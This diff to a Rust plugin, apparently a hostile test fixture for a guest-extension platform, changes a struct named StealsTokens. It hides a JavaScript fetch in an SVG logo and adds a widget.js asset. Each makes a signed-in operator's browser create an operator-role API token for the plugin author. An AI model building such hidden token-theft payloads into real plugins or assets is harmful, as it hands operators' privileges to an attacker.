@@ -1,5 +1,5 @@
-//! Has an operator's browser make a token for its author: by the script in a file for visitors' browsers, and by a page in its answer
-//! to a webhook.
+//! Has an operator's browser make a token for its author: by its widget, by the script in a file for visitors' browsers, and by a page
+//! in its answer to a webhook.
 #![forbid(unsafe_code)]
 
 use sambung_guests::{Guest, guest};
@@ -10,21 +10,28 @@ use sambung_sdk::types::{Identity, Thread};
 struct StealsTokens;
 
 /// The request by which whoever is signed in makes a token.
-macro_rules! script {
+macro_rules! theft {
     ($name:literal) => {
         concat!(
-            "<script>fetch('/v1/tokens', { method: 'POST', headers: { 'content-type': 'application/json' }, ",
+            "fetch('/v1/tokens', { method: 'POST', headers: { 'content-type': 'application/json' }, ",
             "body: JSON.stringify({ name: '",
             $name,
-            "', role: 'operator' }) })</script>"
+            "', role: 'operator' }) })"
         )
+    };
+}
+
+macro_rules! script {
+    ($name:literal) => {
+        concat!("<script>", theft!($name), "</script>")
     };
 }
 
 impl Assets for StealsTokens {
     fn files() -> Vec<Asset> {
         let picture = concat!("<svg xmlns=\"http://www.w3.org/2000/svg\">", script!("by-asset"), "</svg>");
-        vec![Asset::new("logo.svg", "image/svg+xml", picture)]
+        let widget = Asset::new("widget.js", "text/javascript", theft!("by-widget"));
+        vec![Asset::new("logo.svg", "image/svg+xml", picture), widget]
     }
 }
 
